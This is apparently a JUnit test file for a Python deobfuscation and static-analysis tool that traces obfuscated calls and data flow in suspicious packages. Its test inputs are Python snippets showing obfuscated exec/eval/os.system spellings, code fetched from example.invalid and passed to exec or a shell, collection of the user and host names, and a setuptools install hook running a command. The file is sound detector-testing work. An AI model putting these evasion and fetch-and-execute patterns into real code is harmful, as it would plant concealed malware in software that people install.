package dev.chainhunt.deobf.python;

import dev.chainhunt.deobf.Budget;
import dev.chainhunt.deobf.Value;
import dev.chainhunt.lang.python.PyParser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** Calls resolve to canonical names however the callee is spelled. */
class PyNamesTest {

    private static List<String> callees(String code) {
        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults());
        assertThat(model.stopped()).isNull();
        return model.calls().stream().map(PyModel.CallSite::callee).toList();
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
        "import base64 as b; b.b64decode(x)                                  | base64.b64decode",
        "from subprocess import Popen as P; P(cmd)                           | subprocess.Popen",
        "import os.path; os.path.join(a)                                     | os.path.join",
        "import os.path as p; p.join(a)                                      | os.path.join",
        "__import__('os').system(cmd)                                        | os.system",
        "__import__('o' + 's').system(cmd)                                   | os.system",
        "import importlib; importlib.import_module('subprocess').call(cmd)   | subprocess.call",
        "getattr(__builtins__, 'ex' + 'ec')(code)                            | builtins.exec",
        "getattr(__import__('builtins'), 'exec')(code)                       | builtins.exec",
        "globals()['__builtins__']['eval'](code)                             | builtins.eval",
        "import builtins; builtins.__dict__['exec'](code)                    | builtins.exec",
        "vars(__builtins__)['exec'](code)                                    | builtins.exec",
        "import sys; sys.modules['os'].system(cmd)                           | os.system",
        "e = exec; e(code)                                                   | builtins.exec",
        "__builtins__.eval(code)                                             | builtins.eval",
        "import requests; requests.get(u).text.strip()                       | requests.get().text.strip",
        "e = eval('\\x65val'); c = e('compile'); e(c(\"__import__('os')\", '', 'eval')).system(x) | os.system",
        "getattr(eval('__imp' + 'ort__')('subprocess'), 'Popen')(cmd)   | subprocess.Popen",
        "import urllib.request; urllib.request.urlopen(u).read()             | urllib.request.urlopen().read",
        "from urllib.request import urlopen as o; o(u).read()                | urllib.request.urlopen().read",
        "import requests; s = requests.Session(); s.post(u, data=d)          | requests.Session().post",
        "name = 'sys' + 'tem'; import os; getattr(os, name)(cmd)             | os.system",
        "from os import *; system(cmd)                                       | os.system",
    })
    void resolves(String code, String expected) {
        assertThat(callees(code.replace("\\n", "\n"))).contains(expected);
    }

    @Test
    void functionsReturningConstantsAndNormalisedIdentifiers() {
        assertThat(callees("def f():\n    return 'po' + 'pen'\nimport os\ngetattr(os, f())(cmd)\n")).contains("os.popen");
        // Python folds identifiers with NFKC: fullwidth letters spell the builtin exec.
        assertThat(callees("\uff45\uff58\uff45\uff43(code)\n")).contains("builtins.exec");
    }

    @Test
    void valuesFlowThroughAssignmentsAttributesAndFunctions() {
        String code = String.join("\n",
                "import requests, subprocess",
                "def fetch(u):",
                "    r = requests.get(u)",
                "    return r.text",
                "payload = fetch('https://example.invalid/p')",
                "code = payload.replace('a', 'b')",
                "exec(code)",
                "subprocess.Popen(['sh', '-c', payload], shell=False)",
                "");
        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults());
        PyModel.CallSite exec = model.calls().stream().filter(c -> c.callee().equals("builtins.exec")).findFirst().orElseThrow();
        assertThat(exec.args().get(0).from()).contains("requests.get");
        PyModel.CallSite popen = model.calls().stream().filter(c -> c.callee().equals("subprocess.Popen")).findFirst().orElseThrow();
        assertThat(((Value.Seq) popen.args().get(0)).items().get(2).from()).contains("requests.get");
        assertThat(popen.keywords()).containsKey("shell");
    }

    @Test
    void containersAndFormattingKeepWhereTheirItemsCameFrom() {
        String code = String.join("\n",
                "import getpass, json, socket",
                "user = getpass.getuser()",
                "host = socket.gethostname()",
                "sink('%s@%s' % (user, host))",
                "sink(json.dumps({'who': user, 'where': [host]}))",
                "");
        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults());
        assertThat(model.calls().stream().filter(c -> c.callee().equals("sink")).findFirst().orElseThrow().args().get(0))
                .isInstanceOfSatisfying(Value.Opaque.class, o -> assertThat(o.fragments()).containsExactly("@"));
        assertThat(model.calls().stream().filter(c -> c.callee().equals("sink")))
                .hasSize(2)
                .allSatisfy(c -> assertThat(c.args().get(0).from()).contains("getpass.getuser", "socket.gethostname"));
    }

    @Test
    void callsInsideFunctionsAndMethodsNameTheirScope() {
        String code = String.join("\n",
                "from setuptools import setup",
                "from setuptools.command.install import install",
                "import os",
                "class CustomInstall(install):",
                "    def run(self):",
                "        os.system('id')",
                "        install.run(self)",
                "setup(name='x', cmdclass={'install': CustomInstall})",
                "");
        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults());
        assertThat(model.calls()).anySatisfy(c -> {
            assertThat(c.callee()).isEqualTo("os.system");
            assertThat(c.scope()).isEqualTo("CustomInstall.run");
        });
        assertThat(model.classes()).singleElement().satisfies(k -> {
            assertThat(k.name()).isEqualTo("CustomInstall");
            assertThat(k.bases()).containsExactly("setuptools.command.install.install");
            assertThat(k.methods()).containsExactly("run");
        });
        PyModel.CallSite setup = model.calls().stream().filter(c -> c.callee().equals("setuptools.setup")).findFirst().orElseThrow();
        Value.Dict cmdclass = (Value.Dict) setup.keywords().get("cmdclass");
        assertThat(((Value.Function) cmdclass.values().get(0)).name()).isEqualTo("CustomInstall");
    }

    @Test
    void whatABranchMayHaveAddedOrReplacedIsKept() {
        String code = String.join("\n",
                "import os, requests",
                "def run():",
                "    names = []",
                "    for line in requests.get('https://example.invalid/all.txt').text.splitlines():",
                "        if os.name in line:",
                "            names.append(line)",
                "    for name in names:",
                "        os.system('./' + name)",
                "    cmd = 'true'",
                "    if os.environ.get('X'):",
                "        cmd = requests.get('https://example.invalid/cmd').text",
                "    os.system(cmd)",
                "");
        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults());
        List<PyModel.CallSite> systems = model.calls().stream().filter(c -> c.callee().equals("os.system")).toList();
        assertThat(systems).as("the loop over a list filled in a branch runs").hasSizeGreaterThanOrEqualTo(2);
        assertThat(systems).allSatisfy(c -> assertThat(c.args().get(0).from()).contains("requests.get"));
    }

    @Test
    void branchesWithUnknownConditionsKeepBothSides() {
        String code = String.join("\n",
                "import os",
                "try:",
                "    import requests",
                "except ImportError:",
                "    requests = None",
                "if os.name == 'nt':",
                "    url = 'https://example.invalid/win'",
                "else:",
                "    url = 'https://example.invalid/nix'",
                "requests.get(url)",
                "");
        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults());
        assertThat(model.calls()).extracting(PyModel.CallSite::callee).contains("requests.get");
    }
}
